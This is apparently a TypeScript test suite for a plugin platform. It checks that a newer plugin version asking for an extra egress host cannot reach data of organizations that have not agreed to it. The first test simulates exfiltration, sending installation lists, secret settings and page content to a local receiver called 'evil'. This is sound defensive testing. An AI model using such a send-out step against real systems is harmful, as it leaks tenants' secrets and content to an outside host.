// tier: wall (attacks in nine organizations, with twenty deployments)

import assert from 'node:assert/strict'
import { after, before, describe, it } from 'node:test'
import { type Annex, type Json, startAnnex, until } from '../support/annex.ts'
import { agree, installIn } from '../support/installing.ts'
import { type PluginSource, writePlugin } from '../support/plugin-folder.ts'
import { startReceiver } from '../support/receiver.ts'

/** Does what the body of a request asks for: calls the API with one of its tokens, stores, reads, queues, sends. */
const script = (name: string) => `
import { createIntegration } from '@annex/runtime'
export default createIntegration({
  fetch: async (request, { environment, storage, integration }) => {
    const { as = 'integration', token = environment.apiTokens[as], method = 'GET', path, body, ...act } = await request.json()
    const shared = storage.of('integration')
    if (act.tokens) return Response.json(environment.apiTokens)
    if (act.put) return Response.json(await shared.put(...act.put))
    if (act.get) return Response.json(await shared.get(act.get) ?? null)
    if (act.list) return Response.json((await shared.list()).items.map(({ key }) => key))
    if (act.task) return Response.json(await integration.queueTask({ task: act.task }) ?? null)
    if (act.send) return Response.json((await fetch(act.send, { method: 'POST', body: JSON.stringify(body) })).status)
    const answer = await fetch(environment.apiEndpoint + path, {
      method, headers: { authorization: 'Bearer ' + token, 'content-type': 'application/json' },
      ...(body !== undefined && { body: JSON.stringify(body) }),
    })
    return Response.json({ status: answer.status, json: await answer.json().catch(() => null) })
  },
  task: async (task) => console.log('${name} runs ' + JSON.stringify(task)),
})`

const settings = `configurations: { account: { properties: {
  key: { type: string, title: K, description: K, secret: true } } } }`
const scopes = ['space:content:read', 'space:metadata:read', 'site:metadata:read']
const version = (name: string, hosts: string[], more: Partial<PluginSource> = {}): PluginSource => ({
  script: script(name),
  scopes,
  more: `egress: ${JSON.stringify(hosts)}\n${settings}`,
  ...more,
})

type Installed = { id: string; path: string; endpoint: string; space: string; site: string; org: string }

describe('while a version waits in an organization', () => {
  let annex: Annex
  let evil: Awaited<ReturnType<typeof startReceiver>>
  let host: string
  let names = 0

  before(async () => {
    evil = await startReceiver(204)
    host = new URL(evil.url).host
    annex = await startAnnex({ sandboxes: 'processes' })
  })
  after(async () => {
    await annex.close()
    await evil.close()
  })

  const publish = async (name: string, source: PluginSource): Promise<void> => {
    writePlugin(annex.pluginsDir, name, source)
    const { json } = await annex.api('POST', '/v1/reload')
    assert.deepEqual(
      json.items.filter((one: Json) => one.state === 'failed'),
      [],
    )
  }
  const ask = async (endpoint: string, asked: object): Promise<Json> => {
    const response = await fetch(endpoint, { method: 'POST', body: JSON.stringify(asked) })
    assert.equal(response.status, 200, await response.clone().text())
    return response.json()
  }
  async function installEverywhere(name: string, subdomain: string): Promise<Installed> {
    const org = (await annex.api('POST', '/v1/orgs', { subdomain, title: subdomain })).json.id
    const space = (await annex.api('POST', `/v1/orgs/${org}/spaces`, { slug: 'docs', title: 'Docs' })).json.id
    const site = (await annex.api('POST', `/v1/orgs/${org}/sites`, { slug: 'docs', title: 'Docs' })).json.id
    await annex.api('PUT', `/v1/spaces/${space}/content/page/plan`, { title: 'Plan', markdown: subdomain })
    const { id, path, endpoint } = await installIn(annex, name, org)
    assert.equal((await annex.api('POST', `${path}/spaces`, { space })).status, 201)
    assert.equal((await annex.api('POST', `${path}/sites`, { site })).status, 201)
    const configuration = { key: `secret-of-${subdomain}` }
    assert.equal((await annex.api('PATCH', path, { configuration })).status, 200)
    return { id, path, endpoint, space, site, org }
  }

  /** Version 1 in two organizations; then version 2, with another host, to which the first agrees. */
  async function waiting() {
    names += 1
    const name = `waits-${names}`
    await publish(name, version('one', ['api.example.com']))
    const agreed = await installEverywhere(name, `agreed-${names}`)
    const waits = await installEverywhere(name, `waits-${names}`)
    const whole = `${annex.url}/x/${name}`
    const later = async () => {
      await publish(name, version('two', ['api.example.com', host]))
      await agree(annex, agreed.path)
    }
    return { name, agreed, waits, whole, later }
  }

  it('the newer version cannot send settings and pages of that organization to its new host', async () => {
    const { name, agreed, waits, whole, later } = await waiting()
    await later()
    const listed = await ask(whole, { path: `/v1/integrations/${name}/installations` })
    const space = await ask(whole, { path: `/v1/spaces/${waits.space}/content` })
    assert.equal(await ask(whole, { send: evil.url, body: [listed, space] }), 204)
    const sent = evil.received.map(({ body }) => body).join('')
    assert.ok(sent.includes(agreed.id) && sent.includes('secret-of-agreed'))
    assert.ok(!sent.includes('secret-of-waits'), 'the settings of the waiting organization have left')
    assert.equal(space.status, 404)
  })

  it('the newer version gets a 404 with a reason for each request about that organization', async () => {
    const { name, waits, whole, later } = await waiting()
    await later()
    const base = `/v1/integrations/${name}/installations`
    const ways: [method: string, path: string, body?: object][] = [
      ['GET', waits.path],
      ['PATCH', waits.path, { configuration: { key: 'changed' } }],
      ['POST', `${waits.path}/tokens`],
      ['GET', `${waits.path}/storage`],
      ['GET', `${waits.path}/spaces`],
      ['GET', `${waits.path}/sites`],
      ['GET', `${waits.path}/spaces/${waits.space}`],
      ['GET', `${waits.path}/sites/${waits.site}`],
      ['PATCH', `${waits.path}/spaces/${waits.space}`, { configuration: {} }],
      ['GET', `/v1/spaces/${waits.space}`],
      ['GET', `/v1/spaces/${waits.space}/content`],
      ['GET', `/v1/spaces/${waits.space}/content/page/plan`],
      ['GET', `/v1/spaces/${waits.space}/revisions`],
      ['GET', `/v1/orgs/${waits.org}/sites/${waits.site}`],
    ]
    for (const [method, path, body] of ways) {
      const { status, json } = await ask(whole, { method, path, body })
      assert.equal(status, 404, `${method} ${path} ${JSON.stringify(json)}`)
      assert.match(json.error.message, /has not agreed to version 2/, `${method} ${path}`)
      assert.match(json.error.message, new RegExp(host), `${method} ${path}`)
    }
    for (const path of [base, `/v1/integrations/${name}/sites`, `/v1/integrations/${name}/spaces`]) {
      const { status, json } = await ask(whole, { path })
      assert.deepEqual([status, json.count], [200, 1], path)
      assert.ok(!JSON.stringify(json).includes(waits.id), path)
    }
  })

  it('the older version, which runs there, reaches the same organizations as before', async () => {
    const { name, agreed, waits, later } = await waiting()
    await later()
    const get = async (path: string) => (await ask(waits.endpoint, { path })).status
    assert.equal(await get(waits.path), 200)
    assert.equal(await get(`/v1/spaces/${waits.space}/content`), 200)
    const third = await ask(waits.endpoint, { path: `/v1/integrations/${name}/installations` })
    assert.deepEqual(third.json.items.map(({ id }: Json) => id).sort(), [agreed.id, waits.id].sort())
    const minted = await ask(waits.endpoint, { method: 'POST', path: `${waits.path}/tokens` })
    assert.equal(minted.status, 201, JSON.stringify(minted))
    assert.equal((await ask(waits.endpoint, { path: waits.path, token: minted.json.token })).status, 200)
  })

  it('tokens from before give the newer version no access', async () => {
    const { name, agreed, waits, whole, later } = await waiting()
    const old = await ask(whole, { tokens: true })
    await later()
    const newer = await ask(whole, { tokens: true })
    const get = (path: string, token: string) => annex.api('GET', path, undefined, token)
    assert.equal((await get(waits.path, old.integration)).status, 200)
    assert.equal((await get(waits.path, newer.integration)).status, 404)
    assert.equal((await annex.api('POST', `/v1/integrations/${name}/rollback`, {})).status, 200)
    assert.equal((await get(waits.path, newer.integration)).status, 404)
    assert.equal((await get(agreed.path, newer.integration)).status, 200)
    assert.equal((await ask(whole, { path: waits.path })).status, 200, 'the older version runs everywhere')
    assert.equal((await annex.api('POST', `/v1/integrations/${name}/unpin`)).status, 200)
    assert.equal((await get(waits.path, newer.integration)).status, 404)
    await agree(annex, waits.path)
    assert.equal((await get(waits.path, newer.integration)).status, 200)
  })

  it('an agreement to a version without a host ends the access of the older version', async () => {
    const { name, waits, whole } = await waiting()
    const old = await ask(whole, { tokens: true })
    const minted = (await ask(whole, { method: 'POST', path: `${waits.path}/tokens` })).json.token
    await publish(name, version('two', [host]))
    await agree(annex, waits.path)
    for (const token of [old.integration, minted]) {
      assert.equal((await annex.api('GET', waits.path, undefined, token)).status, 404)
    }
  })

  it('storage that its script writes stays with the versions that it agreed to', async () => {
    const { agreed, waits, whole, later } = await waiting()
    await ask(waits.endpoint, { put: ['before', 'of waits'] })
    await ask(agreed.endpoint, { put: ['agreed', 'of agreed'] })
    await ask(whole, { put: ['whole', 'of version one'] })
    await later()
    await ask(waits.endpoint, { put: ['after', 'of waits'] })
    assert.deepEqual(await ask(whole, { list: true }), ['agreed'])
    for (const key of ['before', 'after', 'whole']) assert.equal(await ask(whole, { get: key }), null, key)
    assert.deepEqual(await ask(agreed.endpoint, { list: true }), ['agreed'])
    assert.deepEqual((await ask(waits.endpoint, { list: true })).sort(), [
      'after',
      'agreed',
      'before',
      'whole',
    ])
    assert.deepEqual((await ask(whole, { get: 'agreed' })).value, 'of agreed')
    await ask(whole, { put: ['whole', 'of version two', { ifAbsent: true }] })
    assert.equal((await ask(waits.endpoint, { get: 'whole' })).value, 'of version two')
    await agree(annex, waits.path)
    assert.deepEqual((await ask(whole, { list: true })).sort(), ['after', 'agreed', 'before', 'whole'])
  })

  it('storage that its script wrote stays hidden after an uninstall', async () => {
    const { waits, whole, later } = await waiting()
    await ask(waits.endpoint, { put: ['left', 'of waits'] })
    await later()
    assert.equal((await annex.api('DELETE', waits.path)).status, 204)
    await until(
      () => annex.api('GET', waits.path),
      ({ status }) => status === 404,
    )
    assert.equal(await ask(whole, { get: 'left' }), null)
    assert.equal((await ask(whole, { path: waits.path })).status, 404)
  })

  it('a task of the older version runs on that version until no organization waits', async () => {
    const { name, agreed, waits, whole, later } = await waiting()
    await later()
    const ran = async (task: string): Promise<string> => {
      const { json } = await until(
        () => annex.api('GET', `/v1/logs?integration=${name}`),
        ({ json }) => json.items.some(({ text }: Json) => text.includes(task)),
      )
      return json.items.find(({ text }: Json) => text.includes(task)).text
    }
    const path = `/v1/integrations/${name}/tasks`
    const queue = (endpoint: string, type: string) =>
      ask(endpoint, { method: 'POST', path, body: { task: { type } } })
    await queue(waits.endpoint, 'left')
    await queue(whole, 'new')
    await queue(agreed.endpoint, 'agreed')
    assert.match(await ran('left'), /^one runs/)
    assert.match(await ran('new'), /^two runs/)
    assert.match(await ran('agreed'), /^two runs/)
    await agree(annex, waits.path)
    await queue(waits.endpoint, 'after')
    assert.match(await ran('after'), /^two runs/)
  })

  it('its problem counts refused requests, and the author sees how many organizations wait', async () => {
    const { name, waits, whole, later } = await waiting()
    await later()
    const { token } = (await annex.api('POST', `/v1/orgs/${waits.org}/tokens`, {})).json
    const problem = async (): Promise<Json> => {
      const { json } = await annex.api('GET', '/v1/problems', undefined, token)
      return json.items.find(({ kind }: Json) => kind === 'waiting_version')
    }
    assert.match((await problem()).sentence, /^Version 2 of .* waits, as it asks for more\.$/)
    await ask(whole, { path: waits.path })
    await ask(whole, { method: 'POST', path: `${waits.path}/tokens` })
    await ask(whole, { path: `/v1/integrations/${name}/installations` })
    const counted = await until(problem, ({ sentence }) => sentence.includes('3 requests'))
    assert.equal(counted.fix.command, `npx annex agree ${waits.id}`)
    const diff = await annex.api('GET', `/v1/integrations/${name}/versions/2/diff`)
    assert.equal(diff.json.waiting, 1)
    await agree(annex, waits.path)
    assert.equal(await problem(), undefined)
    assert.equal((await annex.api('GET', `/v1/integrations/${name}/versions/2/diff`)).json.waiting, 0)
  })
})
